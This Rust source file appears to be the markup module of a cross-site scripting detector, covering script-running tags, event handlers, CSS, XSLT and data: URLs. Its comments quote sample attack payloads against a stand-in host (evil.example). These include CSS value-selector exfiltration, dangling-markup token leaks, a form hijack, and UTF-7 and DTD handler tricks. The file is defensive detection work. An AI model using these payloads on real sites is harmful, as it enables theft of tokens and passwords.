//! Judgement of markup: which tags and attributes make a browser run script,
//! load active content or navigate. Formatting markup (`<b>`, `<p>`,
//! `<a href="https://...">`, `<img src="photo.jpg">`) passes.

use std::ops::Range;

use super::js::{self, Mode};
use super::tokenizer::{eq_ci, is_ws, Attrs, Tag, Token, Tokenizer};
use super::value::{self, decode_refs};
use super::{keep, Found};
use crate::search;

/// Tags that load and run active content from their attributes.
const EMBEDDING: &[&[u8]] = &[
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"portal",
    b"bgsound",
    b"layer",
    b"ilayer",
    b"vmlframe",
    b"import",
];

/// Event-handler attributes common enough to judge on name alone: a value
/// that is not obviously script still runs as script.
const EVENTS: &[&[u8]] = &[
    b"onload",
    b"onerror",
    b"onclick",
    b"onmouseover",
    b"onmouseenter",
    b"onmouseout",
    b"onmousemove",
    b"onmousedown",
    b"onmouseup",
    b"onfocus",
    b"onblur",
    b"onfocusin",
    b"onchange",
    b"oninput",
    b"onsubmit",
    b"onkeydown",
    b"onkeyup",
    b"onkeypress",
    b"onanimationstart",
    b"onanimationend",
    b"ontransitionend",
    b"onbegin",
    b"onend",
    b"onpageshow",
    b"onhashchange",
    b"onscroll",
    b"ontoggle",
    b"onwheel",
    b"onbeforeunload",
    b"onunload",
    b"onresize",
    b"onstart",
    b"onfinish",
    b"onpointerover",
    b"onauxclick",
    b"ondblclick",
    b"oncontextmenu",
    b"ondrag",
    b"ondrop",
    b"onpaste",
    b"oncopy",
    b"oncut",
    b"onreadystatechange",
    b"onpropertychange",
    b"onmessage",
    b"onpopstate",
    b"onselect",
    b"oninvalid",
    b"onreset",
    b"onsearch",
    b"onplay",
    b"oncanplay",
    b"onloadstart",
    b"onactivate",
    b"onbeforeactivate",
    b"onfilterchange",
    b"onforminput",
];

/// Attributes whose value is a URL that may be navigated to or loaded.
const URL_ATTRS: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"background",
    b"lowsrc",
    b"dynsrc",
    b"poster",
    b"code",
    b"codebase",
    b"archive",
    b"cite",
    b"longdesc",
    b"usemap",
    b"profile",
    b"classid",
    b"icon",
    b"manifest",
    b"ping",
    b"srcset",
    b"value",
    b"from",
    b"to",
    b"by",
    b"values",
    b"content",
    b"folder",
    b"datasrc",
    b"implementation",
];

/// Lower-cases `s` into a small fixed buffer; longer names are cut (no
/// name worth matching is longer).
fn lower(src: &[u8], r: &Range<usize>) -> ([u8; 24], usize) {
    let mut buf = [0u8; 24];
    let s = src.get(r.clone()).unwrap_or(&[]);
    let n = s.len().min(buf.len());
    for (d, b) in buf.iter_mut().zip(s) {
        *d = b.to_ascii_lowercase();
    }
    (buf, if s.len() > buf.len() { 0 } else { n })
}

fn is_in(set: &[&[u8]], name: &[u8]) -> bool {
    set.contains(&name)
}

/// Whether the name is an event handler: `on` and letters (`onboarding` is
/// one too, so the value must also look like script).
fn is_handler_name(name: &[u8]) -> bool {
    name.len() > 4 && name.starts_with(b"on") && name[2..].iter().all(u8::is_ascii_alphabetic)
}

/// Attributes a client-side framework evaluates as script when it compiles
/// the page: Vue (`v-on:click`, `@click`, `v-bind:x`, `:x`, `v-html`),
/// Alpine (`x-init`, `x-on:click`), AngularJS (`ng-click`, `data-ng-init`,
/// `ng:focus`), htmx (`hx-on:click`, `hx-on-click`), Knockout (`data-bind`).
/// Markup holding them runs its value once the app mounts it, with no `on*`
/// handler a browser would see; `qualified` is the lower-cased full name.
pub(crate) fn is_directive(qualified: &[u8]) -> bool {
    let q = qualified;
    let q = q.strip_prefix(b"data-").unwrap_or(q);
    (q.len() > 1 && matches!(q[0], b'@' | b':'))
        || [&b"v-"[..], b"x-", b"ng-", b"ng:", b"ng_", b"hx-on"]
            .iter()
            .any(|p| q.len() > p.len() && q.starts_with(p))
        || q == b"bind"
}

/// A style value as an old browser's CSS parser reads it: references
/// decoded, CSS escapes (`\65`, `\e`) and comments removed, whitespace
/// dropped, lower-cased.
pub(crate) fn css_clean(v: &[u8]) -> Vec<u8> {
    let v = decode_refs(v);
    let mut clean = Vec::with_capacity(v.len().min(4096));
    let mut i = 0;
    while i < v.len() {
        match v[i] {
            b'\\' => {
                i += 1;
                let hex = v[i..]
                    .iter()
                    .take(6)
                    .take_while(|b| b.is_ascii_hexdigit())
                    .count();
                if hex > 0 {
                    let n = v[i..i + hex]
                        .iter()
                        .fold(0u32, |n, &b| n * 16 + (b as char).to_digit(16).unwrap_or(0));
                    if (0x21..0x7f).contains(&n) {
                        clean.push((n as u8).to_ascii_lowercase());
                    }
                    i += hex;
                }
                continue;
            }
            b'/' if v[i..].starts_with(b"/*") => {
                i = search::find(&v[i + 2..], b"*/").map_or(v.len(), |e| i + 2 + e + 2);
                continue;
            }
            b if b.is_ascii_whitespace() => {}
            b => clean.push(b.to_ascii_lowercase()),
        }
        i += 1;
    }
    clean
}

/// Constructs that run script or load active code from a style sheet.
const CSS_ACTIVE: &[&[u8]] = &[
    b"expression(",
    b"behavior:",
    b"behaviour:",
    b"binding:url(",
    b"javascript:",
    b"vbscript:",
    b"@import",
];

/// The same, when the text may be prose rather than a style: only forms
/// that are CSS syntax.
pub(crate) const CSS_ACTIVE_STRICT: &[&[u8]] = &[
    b":expression(",
    b"behavior:url(",
    b"behaviour:url(",
    b"binding:url(",
    b"url(javascript",
    b"url('javascript",
    b"url(\"javascript",
    b"url(vbscript",
];

/// Position of an active construct in a style value.
pub(crate) fn css_active(v: &[u8], set: &[&[u8]]) -> Option<usize> {
    let clean = css_clean(v);
    set.iter().find_map(|n| search::find(&clean, n))
}

/// `input[value^=a]{background:url(//evil.example/a)}`: a rule that
/// matches an input by the start, end or part of its value and then loads
/// a URL from another host. One such rule per character reads a CSRF token
/// or a password out of the page without script (CSS exfiltration); a
/// style sheet styles fields by type or name, not by what is typed in them.
pub(crate) fn css_exfiltration(sheet: &[u8]) -> bool {
    if !search::contains_ci(sheet, b"[value") {
        return false;
    }
    let clean = css_clean(sheet);
    let mut from = 0;
    // Selectors read: a sheet of many rules stays linear.
    for _ in 0..64 {
        let Some(i) = search::find(&clean[from..], b"[value") else {
            return false;
        };
        let at = from + i + b"[value".len();
        from = at;
        let Some(close) = clean[at..].iter().take(64).position(|&b| b == b']') else {
            continue;
        };
        let op = &clean[at..at + close];
        if !(op.starts_with(b"^=") || op.starts_with(b"$=") || op.starts_with(b"*=")) {
            continue;
        }
        let rest = &clean[at + close..];
        let Some(open) = rest.iter().take(256).position(|&b| b == b'{') else {
            continue;
        };
        let block = &rest[open..];
        let block = &block[..block.iter().position(|&b| b == b'}').unwrap_or(block.len())];
        let mut u = 0;
        while let Some(k) = search::find(&block[u..], b"url(") {
            let arg = &block[u + k + 4..];
            let arg = arg
                .strip_prefix(b"'")
                .or_else(|| arg.strip_prefix(b"\""))
                .unwrap_or(arg);
            if remote(arg) {
                return true;
            }
            u += k + 4;
        }
    }
    false
}

/// `@\69mport`, `@\`: an at-rule whose name starts with a CSS escape. No
/// style sheet spells `@media` or `@font-face` that way; the escape hides
/// `@import` (which loads a sheet, and in old browsers script) from a
/// reader, and a truncated one is the probe for it.
fn escaped_at_rule(sheet: &[u8]) -> Option<usize> {
    search::find(sheet, b"@\\")
}

/// Judges the tokens of `src`; `depth` bounds recursion into comments,
/// attribute values and `srcdoc`.
pub(crate) fn judge(src: &[u8], depth: u8) -> Option<Found> {
    let mut best = judge_from(Tokenizer::new(src), src, depth);
    if best.as_ref().is_some_and(|f| f.score >= 10) {
        return best;
    }
    keep(&mut best, split_opener(src));
    keep(&mut best, dangling(src));
    best
}

/// Whether a URL points at another host: `//host`, `\\host` (browsers
/// read it as `//`), or an absolute `http(s):` / `ftp:` URL.
fn remote(url: &[u8]) -> bool {
    let t = url.trim_ascii_start();
    t.starts_with(b"//")
        || t.starts_with(b"\\\\")
        || value::scheme(t).is_some_and(|(s, _)| matches!(&s[..], b"http" | b"https" | b"ftp"))
}

/// Tags after an attribute break-out (`">`, `'>`) that steal the page
/// rather than run script: dangling markup, a quoted URL to another host
/// left open to the end of the value (`"><img src='//evil.example/?`), so
/// the browser sends everything up to the page's next quote (a CSRF token,
/// a secret) as part of the URL; and a form posting to another host
/// (`"><form action=//evil.example>`), which the page's own fields and the
/// user's typing then fill. Text does not close a tag and open another,
/// and no finished markup leaves a URL's quote open.
fn dangling(src: &[u8]) -> Option<Found> {
    if !search::contains(src, b"\">") && !search::contains(src, b"'>") {
        return None;
    }
    // `"` or `'`, then `>`, then (after whitespace) the tag's `<`.
    let after_breakout = |lt: usize| {
        let before = src[..lt].trim_ascii_end();
        before.len() >= 2
            && before[before.len() - 1] == b'>'
            && matches!(before[before.len() - 2], b'"' | b'\'')
    };
    for tok in Tokenizer::new(src) {
        let Token::Tag(tag) = tok else {
            continue;
        };
        if tag.end || !after_breakout(tag.span.start) {
            continue;
        }
        let (nbuf, nlen) = lower(src, &tag.name);
        let name = &nbuf[..nlen];
        for attr in Attrs::new(src, tag.attrs.clone()) {
            let Some(vr) = attr.value.clone() else {
                continue;
            };
            let (abuf, alen) = lower(src, &attr.name);
            let aname = &abuf[..alen];
            let v = decode_refs(&src[vr.clone()]);
            let open = vr.end == src.len()
                && vr.start > 0
                && matches!(src[vr.start - 1], b'"' | b'\'' | b'`');
            // `<meta http-equiv=refresh content='0;url=//evil.example/?`
            let url = match search::find_ci(&v, b"url=") {
                Some(at) if aname == b"content" => &v[at + 4..],
                _ => &v[..],
            };
            let leak = open && is_in(URL_ATTRS, aname) && remote(url);
            let hijack = name == b"form" && aname == b"action" && remote(url);
            if leak || hijack {
                return Some(Found::new("xss.dangling_markup", 6, tag.span.start..vr.end));
            }
        }
    }
    None
}

/// Element names worth spelling in pieces: they run, embed, load or take
/// over a form. Formatting names are left out; `<b o l d` harms nothing.
const SPLIT_NAMES: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"form",
    b"dialog",
    b"style",
    b"link",
    b"meta",
    b"base",
    b"svg",
    b"math",
    b"img",
    b"image",
    b"input",
    b"button",
    b"textarea",
    b"isindex",
    b"marquee",
    b"vmlframe",
    b"import",
    b"xml",
    b"body",
    b"video",
    b"audio",
    b"details",
    b"template",
    b"noscript",
    b"portal",
    b"layer",
    b"ilayer",
    b"bgsound",
    b"keygen",
];

/// `<f o r m`, `<s c r i p t>`, `< x: script`: a start tag whose name is
/// spelled with whitespace between its letters, or behind whitespace and a
/// namespace prefix. No browser today builds an element from it, but
/// filters and old parsers that strip whitespace do, and no text spaces
/// out an element's letters after a `<`. Weak: it is the probe, not the
/// payload.
fn split_opener(src: &[u8]) -> Option<Found> {
    const READ: usize = 48;
    let sep = |b: u8| is_ws(b) || b == 0;
    for lt in memchr::memchr_iter(b'<', src) {
        let end = (lt + READ).min(src.len());
        let mut p = lt + 1;
        let spaced_lt = p < end && sep(src[p]);
        while p < end && sep(src[p]) {
            p += 1;
        }
        // An optional `prefix:`, itself maybe followed by whitespace.
        let word = src[p..end]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        let prefixed = src.get(p + word) == Some(&b':') && (word > 0 || !spaced_lt);
        if prefixed {
            p += word + 1;
            while p < end && sep(src[p]) {
                p += 1;
            }
        }
        let mut name = Vec::new();
        let mut split = false;
        while p < end && src[p].is_ascii_alphabetic() {
            let run = src[p..end]
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric())
                .count();
            // Letters spaced one by one; a longer word ends the name (it
            // is the first attribute), unless nothing was read yet.
            if run > 1 && !name.is_empty() {
                break;
            }
            name.extend(src[p..p + run].iter().map(u8::to_ascii_lowercase));
            p += run;
            if run > 1 {
                break;
            }
            let gap = src[p..end].iter().take(3).take_while(|&&b| sep(b)).count();
            if gap == 0 || !src.get(p + gap).is_some_and(u8::is_ascii_alphabetic) {
                break;
            }
            // A single letter and a gap: the next letter continues the name.
            let next_run = src[p + gap..end]
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric())
                .count();
            if next_run > 1 {
                break;
            }
            split = true;
            p += gap;
        }
        let obfuscated = split && name.len() >= 3 || spaced_lt && prefixed;
        if !obfuscated || !SPLIT_NAMES.contains(&&name[..]) {
            continue;
        }
        // What follows must read as the rest of a tag: its end, `>`, `/`,
        // `=` (the name glued to a value), or an attribute; `if n < m:
        // style = x` in code is a comparison and an assignment.
        let mut q = p;
        while q < src.len() && sep(src[q]) {
            q += 1;
        }
        let attr_like = || {
            let n = src[q..]
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
                .count();
            n > 0 && src.get(q + n) == Some(&b'=')
        };
        let tail = q >= src.len()
            || matches!(src[q], b'>' | b'/')
            || q == p && src[q] == b'='
            || attr_like();
        if tail {
            return Some(Found::new("xss.dangerous_tag", 5, lt..p));
        }
    }
    None
}

fn judge_from(tokens: Tokenizer<'_>, src: &[u8], depth: u8) -> Option<Found> {
    let mut best = None;
    // The end of the style sheet last judged: a `<style>` inside it was
    // judged with it (and judging it again would be quadratic).
    let mut style_end = 0;
    for tok in tokens {
        let found = match tok {
            Token::Tag(tag) if tag.end => {
                // `</script>` ends the script block the value sits in.
                (eq_ci(src, &tag.name, b"script"))
                    .then(|| Found::new("xss.js_breakout", 10, tag.span))
            }
            Token::Tag(tag) => start_tag(src, &tag, depth, &mut style_end),
            Token::Bogus(r) => {
                let pi = instruction(src, r.clone()).or_else(|| attlist(src, r.clone()));
                if pi.is_none() && depth > 0 && !r.is_empty() {
                    judge_from(
                        Tokenizer::at(&src[..r.end], r.start),
                        &src[..r.end],
                        depth - 1,
                    )
                } else {
                    pi
                }
            }
            // Conditional comments and comment tricks: what is inside may be
            // live in some parser, and no benign value hides active markup
            // in a comment.
            Token::Comment(r) if depth > 0 && !r.is_empty() => judge_from(
                Tokenizer::at(&src[..r.end], r.start),
                &src[..r.end],
                depth - 1,
            ),
            _ => None,
        };
        if keep(&mut best, found) {
            break;
        }
    }
    best
}

/// `<?xml-stylesheet href="javascript:...">`, `<?import implementation=...>`,
/// `<?xml:namespace ...>`: processing instructions that load code in
/// XML-aware (and old) browsers.
fn instruction(src: &[u8], r: Range<usize>) -> Option<Found> {
    let mut attrs = Attrs::new(src, r.clone());
    let first = attrs.next()?;
    let (buf, len) = lower(src, &first.name);
    match &buf[..len] {
        b"import" | b"xml:namespace" => Some(Found::new("xss.dangerous_tag", 10, r)),
        // An XSLT sheet attached to the document: the browser (or the
        // server's processor) runs it over the page, and its output may hold
        // any script; a CSS sheet is judged by its URL as below.
        b"xml-stylesheet"
            if Attrs::new(src, r.clone()).any(|a| {
                eq_ci(src, &a.name, b"type")
                    && a.value
                        .is_some_and(|v| search::contains_ci(&src[v], b"xsl"))
            }) =>
        {
            Some(Found::new("xss.xslt", 10, r))
        }
        b"xml-stylesheet" => attrs.find_map(|a| {
            let v = decode_refs(&src[a.value?]);
            let active = value::script_url(&v).is_some()
                || value::scheme(&v).is_some_and(|(s, _)| s == b"data")
                    && css_active(&v, CSS_ACTIVE).is_some();
            active.then(|| Found::new("xss.js_url", 10, r.clone()))
        }),
        _ => None,
    }
}

/// Namespaces that make the element an XSLT program, or bind a prefix to
/// the host language's classes (Xalan, PHP, MSXML script): a stylesheet
/// the value brings runs in the browser or the server's processor.
const XSLT_NAMESPACES: &[&[u8]] = &[
    b"/xsl/transform",
    b"/tr/wd-xsl",
    b"urn:schemas-microsoft-com:xslt",
    b"xml.apache.org/xalan",
    b"xalan://",
    b"php.net/xsl",
    b"saxon.sf.net/java",
];

fn xslt_namespace(v: &[u8]) -> bool {
    XSLT_NAMESPACES.iter().any(|n| search::contains_ci(v, n))
        || v.len() > 5 && v[..5].eq_ignore_ascii_case(b"java:")
}

/// XPath functions an injected XSLT expression uses to read files, fetch
/// URLs, fingerprint the processor or call out to the host language. A
/// stylesheet showing data selects nodes, not these.
const XSLT_FUNCTIONS: &[&[u8]] = &[
    b"document(",
    b"unparsed-text",
    b"system-property(",
    b"environment-variable(",
    b"php:function",
    b"doc(",
    b"collection(",
];

/// `<!ATTLIST img onerror CDATA "alert(1)">`: a DTD that gives every `img`
/// of an XML document (XHTML, SVG) a default handler, so the script runs
/// without any handler written on a tag. Declarations are read as words
/// and quoted defaults; a handler name followed, within its type and
/// `#FIXED`, by a default that is script is the finding.
fn attlist(src: &[u8], r: Range<usize>) -> Option<Found> {
    let at = r.start + search::find(&src[r.clone()], b"ATTLIST")?;
    let mut p = at + b"ATTLIST".len();
    // The handler named last, and how many words ago (type, `#FIXED`).
    let mut handler: Option<(usize, u8)> = None;
    while p < r.end {
        while p < r.end && src[p].is_ascii_whitespace() {
            p += 1;
        }
        if p >= r.end || src[p] == b'>' {
            break;
        }
        let start = p;
        let quote = src[p];
        if quote == b'"' || quote == b'\'' {
            p += 1;
            let body = p;
            while p < r.end && src[p] != quote {
                p += 1;
            }
            let v = decode_refs(&src[body..p]);
            p = (p + 1).min(r.end);
            if let Some((h, _)) = handler.take() {
                if js::hostile(&v, 0..v.len(), Mode::Loose).is_some() {
                    return Some(Found::new("xss.event_handler", 10, h..p));
                }
            }
            continue;
        }
        while p < r.end && !src[p].is_ascii_whitespace() && src[p] != b'>' {
            p += 1;
        }
        let (buf, len) = lower(src, &(start..p));
        handler = if is_handler_name(&buf[..len]) {
            Some((start, 0))
        } else {
            // The attribute's type and `#FIXED` may stand before the default.
            handler.and_then(|(h, n)| (n < 2).then_some((h, n + 1)))
        };
    }
    None
}

/// A `data:` URL of any declared type whose base64 content is markup that
/// runs script: browsers sniff or the type is a decoy
/// (`data:application/x-x509-user-cert;base64,PHNjcmlwdD4...`).
pub(crate) fn data_markup(v: &[u8], depth: u8) -> bool {
    let Some((scheme, rest)) = value::scheme(v) else {
        return false;
    };
    if scheme != b"data" {
        return false;
    }
    let Some(comma) = memchr::memchr(b',', &v[rest..]) else {
        return false;
    };
    let header: Vec<u8> = v[rest..rest + comma]
        .iter()
        .filter(|b| !b.is_ascii_whitespace())
        .map(u8::to_ascii_lowercase)
        .collect();
    if !header.ends_with(b";base64") {
        return false;
    }
    let payload: Vec<u8> = v[rest + comma + 1..]
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    crate::decode::base64::decode(&payload)
        .and_then(|text| judge(&text, depth))
        .is_some_and(|f| f.score >= 10)
}

/// Elements whose `src` is decoded as media, not as a document.
const MEDIA: &[&[u8]] = &[
    b"img", b"image", b"source", b"video", b"audio", b"picture", b"track", b"input",
];

/// SVG and SMIL animation elements, which set another attribute's value.
const ANIMATION: &[&[u8]] = &[b"set", b"animate", b"animatetransform", b"animatemotion"];

fn start_tag(src: &[u8], tag: &Tag, depth: u8, style_end: &mut usize) -> Option<Found> {
    let (nbuf, nlen) = lower(src, &tag.name);
    let name = &nbuf[..nlen];
    // `<svg:script>`, `<x:script>`: namespaced in XML-ish documents.
    let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
    if local == b"script" {
        return Some(Found::new("xss.script_tag", 10, tag.span.clone()));
    }
    let mut best = None;
    let mut attr_count = 0;
    // Attributes given a value: what an embedding tag loads from.
    let mut valued = 0;
    let mut http_equiv = false;
    let mut rel_import = false;
    let mut rel_stylesheet = false;
    let mut script_type = false;
    let mut animates_handler = false;
    let mut animates_link = false;
    let mut animation_value = false;
    let mut param_loads = false;
    let mut param_value = false;
    for attr in Attrs::new(src, tag.attrs.clone()) {
        attr_count += 1;
        let (abuf, alen) = lower(src, &attr.name);
        let qualified = &abuf[..alen];
        // `x:ontimer`, `ev:onload`: the prefix does not change what runs.
        let aname = qualified.rsplit(|&b| b == b':').next().unwrap_or(qualified);
        let Some(vr) = attr.value.clone() else {
            continue;
        };
        valued += 1;
        let raw = &src[vr.clone()];
        let span = attr.name.start..vr.end;
        let v = decode_refs(raw);
        let found = attribute(local, qualified, aname, &v, span.clone(), depth);
        if keep(&mut best, found) {
            return best;
        }
        if (qualified == b"xmlns" || qualified.starts_with(b"xmlns:")) && xslt_namespace(&v) {
            return Some(Found::new("xss.xslt", 10, span));
        }
        if name.starts_with(b"xsl:")
            && matches!(aname, b"select" | b"test" | b"href" | b"use" | b"match")
            && XSLT_FUNCTIONS.iter().any(|f| search::contains_ci(&v, f))
        {
            return Some(Found::new("xss.xslt", 10, span));
        }
        match aname {
            // Refresh navigates, set-cookie plants a cookie, link loads a
            // style sheet; `Content-Type` (every HTML e-mail has one) does not.
            b"http-equiv" => {
                http_equiv = [&b"refresh"[..], b"set-cookie", b"link", b"default-style"]
                    .iter()
                    .any(|h| search::contains_ci(&v, h));
            }
            // `<param name=movie value=//evil.example/x.swf>`: the plugin of
            // the enclosing `<object>` loads and runs what the value names;
            // `AllowScriptAccess=always` lets it script the page.
            b"name" if local == b"param" => {
                param_loads = [&b"movie"[..], b"src", b"url", b"code", b"filename", b"data"]
                    .iter()
                    .any(|n| v.eq_ignore_ascii_case(n))
                    || v.eq_ignore_ascii_case(b"allowscriptaccess");
            }
            b"value" if local == b"param" => {
                param_value = !v.trim_ascii().is_empty() && !v.eq_ignore_ascii_case(b"never");
            }
            b"rel" if search::contains_ci(&v, b"import") => rel_import = true,
            b"rel" if search::contains_ci(&v, b"stylesheet") => rel_stylesheet = true,
            b"type" if search::contains_ci(&v, b"script") => script_type = true,
            b"attributename" => {
                let target = css_clean(&v);
                animates_handler = is_handler_name(&target);
                animates_link = target.ends_with(b"href");
            }
            b"to" | b"values" | b"from" | b"by" => animation_value |= !v.is_empty(),
            b"charset" | b"content"
                if local == b"meta"
                    && [&b"utf-7"[..], b"utf7", b"imap4"]
                        .iter()
                        .any(|c| search::contains_ci(&v, c)) =>
            {
                // A UTF-7 page decodes `+ADw-script+AD4-` into a tag.
                return Some(Found::new("xss.dangerous_tag", 10, span));
            }
            _ => {}
        }
    }
    let dangerous = match local {
        // Only an attribute with a value names what to load: bare words
        // (Python's `<object object at 0x7f...>` repr) load nothing.
        n if is_in(EMBEDDING, n) => Some(if valued > 0 { 10 } else { 4 }),
        // An Internet Explorer data island, bound into the page as HTML.
        b"xml" if attr_count > 0 => Some(10),
        b"base" if attr_count > 0 => Some(10),
        b"param" if param_loads && param_value => Some(10),
        b"meta" if http_equiv => Some(10),
        b"link" if rel_import => Some(10),
        b"link" if script_type => Some(10),
        b"link" if rel_stylesheet => Some(4),
        // XInclude pulls another document into this one.
        b"include" if name.starts_with(b"xi:") => Some(10),
        n if is_in(ANIMATION, n) && animates_handler && animation_value => {
            return Some(Found::new("xss.event_handler", 10, tag.span.clone()));
        }
        // Rewriting a link's target after the page was checked.
        n if is_in(ANIMATION, n) && animates_link && animation_value => Some(10),
        b"style" if tag.span.end >= *style_end => {
            // The style sheet runs to `</style`.
            let body_end = search::find_ci(&src[tag.span.end..], b"</style")
                .map_or(src.len(), |i| tag.span.end + i);
            *style_end = body_end;
            let sheet = &src[tag.span.end..body_end];
            css_active(sheet, CSS_ACTIVE)
                .or_else(|| escaped_at_rule(sheet))
                .or_else(|| css_exfiltration(sheet).then_some(0))
                .map(|_| 10)
        }
        _ => None,
    };
    let found = dangerous.map(|score| Found::new("xss.dangerous_tag", score, tag.span.clone()));
    keep(&mut best, found);
    best
}

/// Judges one attribute (`v` has its references decoded).
fn attribute(
    tag: &[u8],
    qualified: &[u8],
    aname: &[u8],
    v: &[u8],
    span: Range<usize>,
    depth: u8,
) -> Option<Found> {
    // Only a hostile call or sink: a template's own `@click="open = true"`
    // or `ng-click="save()"` is the app's code, not the sender's.
    if is_directive(qualified)
        && (js::hostile(v, 0..v.len(), Mode::Strict).is_some()
            || super::scope_eval(v, 0..v.len()).is_some())
    {
        return Some(Found::new("xss.directive", 10, span));
    }
    if is_handler_name(aname) {
        if js::hostile(v, 0..v.len(), Mode::Loose).is_some() {
            return Some(Found::new("xss.event_handler", 10, span));
        }
        // A handler with any value, or a bare `<x onend=` probe.
        let score = if is_in(EVENTS, aname) { 6 } else { 5 };
        return Some(Found::new("xss.event_handler", score, span));
    }
    if aname == b"style" {
        return css_active(v, CSS_ACTIVE).map(|_| Found::new("xss.style", 10, span));
    }
    // IE data binding renders bound data as markup.
    if aname == b"dataformatas" && search::contains_ci(v, b"html") {
        return Some(Found::new("xss.dangerous_tag", 10, span));
    }
    // Markup inside a value: `<img src="</style><img src=x onerror=...>">`
    // breaks out wherever the outer tag is not what the parser thinks, and
    // `srcdoc` is a document of its own.
    if depth > 0 && memchr::memchr(b'<', v).is_some() {
        if let Some(inner) = judge(v, depth - 1) {
            let rule = if aname == b"srcdoc" {
                "xss.dangerous_tag"
            } else {
                inner.rule
            };
            return Some(Found::new(rule, inner.score, span));
        }
    }
    let url_attr = is_in(URL_ATTRS, qualified) || is_in(URL_ATTRS, aname);
    // An image or media element renders a `data:` document as a picture,
    // never as a page: inline SVG icons are common and harmless there.
    let media = is_in(MEDIA, tag) && value::scheme(v).is_some_and(|(s, _)| s == b"data");
    if media {
        return None;
    }
    if url_attr && depth > 0 && data_markup(v, depth - 1) {
        return Some(Found::new("xss.js_url", 10, span));
    }
    // XML Events: `ev:handler="x.evt#f"` attaches script to an event.
    if aname == b"handler" {
        return Some(Found::new("xss.event_handler", 6, span));
    }
    if let Some(rest) = value::script_url(v) {
        if url_attr || js::hostile(v, rest..v.len(), Mode::Loose).is_some() {
            return Some(Found::new("xss.js_url", 10, span));
        }
    }
    // `content="0;url=javascript:..."`, `values="a;javascript:..."`.
    if url_attr && !v.is_empty() {
        let folded: Vec<u8> = v
            .iter()
            .filter(|b| !matches!(b, b'\t' | b'\n' | b'\r'))
            .map(u8::to_ascii_lowercase)
            .collect();
        for scheme in [&b"javascript:"[..], b"vbscript:"] {
            if let Some(at) = search::find(&folded, scheme) {
                let boundary = at == 0 || !folded[at - 1].is_ascii_alphanumeric();
                let rest = at + scheme.len()..folded.len();
                if boundary && js::hostile(&folded, rest, Mode::Loose).is_some() {
                    return Some(Found::new("xss.js_url", 10, span));
                }
            }
        }
    }
    None
}
